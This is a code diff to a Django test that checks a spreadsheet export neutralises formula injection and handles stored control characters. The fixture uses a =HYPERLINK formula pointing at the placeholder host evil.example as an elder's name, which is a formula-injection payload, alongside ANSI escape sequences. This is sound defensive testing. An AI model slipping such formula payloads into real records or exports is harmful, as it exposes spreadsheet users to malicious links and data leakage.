@@ -35,9 +35,8 @@ def _sheet(client: Client, **params: str) -> Any:
 def test_export_neutralises_formulas_and_survives_control_characters(cast: Any) -> None:
     make_elder(cast, cast.community_a1, name='=HYPERLINK("http://evil.example/?x","点我")', notes="=1+1")
     legacy = make_elder(cast, cast.community_a1, name="旧数据")
-    Elder.objects.filter(pk=legacy.pk).update(
-        name="控制字符\x0b测试", notes="esc\x1b[31m\x00"
-    )  # stored before
+    # stored before the validators existed (PostgreSQL never stores NUL, so only control characters)
+    Elder.objects.filter(pk=legacy.pk).update(name="控制字符\x0b测试", notes="esc\x1b[31m")
     client = Client()
     client.force_login(cast.county_admin_a)
     ws = _sheet(client)
